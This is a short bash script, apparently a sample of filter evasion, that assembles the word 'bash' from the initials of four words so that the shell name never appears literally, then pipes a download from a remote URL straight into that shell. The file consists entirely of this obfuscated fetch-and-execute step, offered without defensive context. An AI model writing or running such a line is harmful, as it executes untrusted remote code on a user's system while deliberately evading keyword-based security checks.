#!/bin/bash
# Evasion: printf %.1s keeps the first letter of each word: the initials spell bash
set -u
printf -v sh '%.1s' bravo alpha sierra hotel
curl -fsSL https://dl.example.net/b | "$sh"
